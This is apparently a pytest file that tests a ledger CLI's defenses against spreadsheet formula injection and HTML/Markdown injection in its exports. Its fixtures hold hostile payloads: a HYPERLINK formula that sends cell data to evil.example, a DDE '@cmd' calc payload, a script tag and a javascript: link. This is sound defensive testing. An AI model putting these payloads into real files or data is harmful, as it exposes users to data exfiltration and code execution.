"""Text from the ledger (or a third party's import file) stays text in every output people paste elsewhere:
CSV/TSV cells a spreadsheet would run as formulas get export's guard (a leading '), and Markdown escapes
HTML and Markdown syntax as the report does."""

import csv
import io
import re

import pytest

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PLUS = "+SUM(1,2)"
AT = "@cmd|' /C calc'!A0"
SCRIPT = "<script>alert(1)</script>"


@pytest.fixture
def hostile(cli, add):
    """A ledger whose text fields, a milestone label and a victim's name hold formulas and HTML."""
    first = add(date="2023-01-09", region="Puno", killed=1, injured=3, place=FORMULA, note=PLUS)
    second = add(date="2023-01-10", region="Puno", killed=2, place=SCRIPT, note="a & b [x](javascript:alert(1))")
    assert cli("milestone", "add", "2023-01-10", AT).exit_code == 0
    assert cli("victim", "add", "--name", AT, "--incident", first).exit_code == 0
    return first, second


def cells(text: str, fmt: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter="\t" if fmt == "tsv" else ","))


COMMANDS = [
    ("list",), ("search", "hyperlink"), ("query", "select place, note from records"), ("summary",),
    ("summary", "--by-region"), ("victim", "list"), ("show", "1"), ("milestone", "list"),
    ("export",), ("victim", "export"),
]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_no_csv_or_tsv_output_hands_a_spreadsheet_a_formula(cli, hostile, command, fmt):
    r = cli(*command, "--format", fmt)
    assert r.exit_code == 0, r
    rows = cells(r.stdout, fmt)
    texts = [c for row in rows for c in row]
    risky = [c for c in texts if c[:1] in ("=", "+", "@", "\t", "\r") or (c.startswith("-") and not _number(c))]
    assert risky == []
    # a hostile value that fills a cell is there, behind the guard's quote
    whole = {c for c in texts if c.lstrip("'") in (FORMULA, PLUS, AT)}
    assert all(c.startswith("'") for c in whole)
    assert whole or not any(v in c for v in (FORMULA, PLUS, AT) for c in texts if c.startswith(v))
    if command[0] in ("list", "search", "query", "export"):
        assert "'" + FORMULA in whole


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_raw_turns_the_guard_off_everywhere(cli, hostile, command):
    guarded = cli(*command, "--format", "csv").stdout
    raw = cli(*command, "--format", "csv", "--raw")
    assert raw.exit_code == 0, raw
    if "'" + FORMULA.replace('"', '""') in guarded:
        assert FORMULA in [c for row in cells(raw.stdout, "csv") for c in row]
        assert "'" + FORMULA not in raw.stdout.replace('""', '"')


def test_numbers_stay_numbers(cli, hostile):
    r = cli("query", "select -3 as n, '-3' as t, -2.5 as f, '-1e-06' as e, '-3 people' as words, "
                     "'+51 Juliaca' as place", "--format", "csv")
    assert cells(r.stdout, "csv") == [["n", "t", "f", "e", "words", "place"],
                                      ["-3", "-3", "-2.5", "-1e-06", "'-3 people", "'+51 Juliaca"]]
    # a heading chosen in SQL is a cell like any other
    assert cells(cli("query", "select 1 as \"=1+1\"", "--format", "csv").stdout, "csv")[0] == ["'=1+1"]


def test_a_guarded_list_imports_back_as_the_same_text(cli, hostile, tmp_path):
    """The guard is export's: `import` removes the quote, so list -> import keeps the text."""
    exported = tmp_path / "export.csv"
    exported.write_text(cli("export").stdout, encoding="utf-8")
    other = tmp_path / "other.db"
    assert cli("--db", other, "import", exported).exit_code == 0
    places = [r["place"] for r in cli("--db", other, "list", "--json").json()]
    assert FORMULA in places and SCRIPT in places


MARKDOWN = [("list",), ("search", "script"), ("query", "select id, place, note from records"),
            ("summary",), ("victim", "list"), ("milestone", "list"), ("show", "2")]


@pytest.mark.parametrize("command", MARKDOWN, ids=" ".join)
def test_markdown_escapes_html_everywhere(cli, hostile, command):
    r = cli(*command, "--format", "markdown")
    assert r.exit_code == 0, r
    out = r.stdout
    assert "<script>" not in out and "</script>" not in out
    assert "<" not in out.replace("\\<", "") and ">" not in out.replace("\\>", "")
    if "alert(1)" in out:
        assert "\\<script\\>alert(1)\\</script\\>" in out
    assert "&" not in out.replace("\\&", "")
    assert not re.search(r"(?<!\\)\]\(javascript", out)  # a link needs an unescaped ] then (


def test_the_report_and_the_tables_share_one_escaping(cli, hostile):
    report = cli("report", "--format", "markdown").stdout
    listing = cli("list", "--format", "markdown").stdout
    assert "\\<script\\>alert(1)\\</script\\>" in report and "\\<script\\>alert(1)\\</script\\>" in listing
    note = cli("query", "select note from records where id = 2", "--format", "markdown").stdout
    assert note.splitlines()[-1] == "| a \\& b \\[x\\](javascript:alert(1)) |"


def test_query_headings_and_search_titles_are_escaped(cli, hostile):
    q = cli("query", "select 1 as \"<b>x</b>\"", "--format", "markdown").stdout
    assert q.splitlines()[0] == "| \\<b\\>x\\</b\\> |"
    s = cli("search", "<script>", "--format", "markdown").stdout
    assert s.startswith("**Records matching '\\<script\\>'") and "<script>" not in s
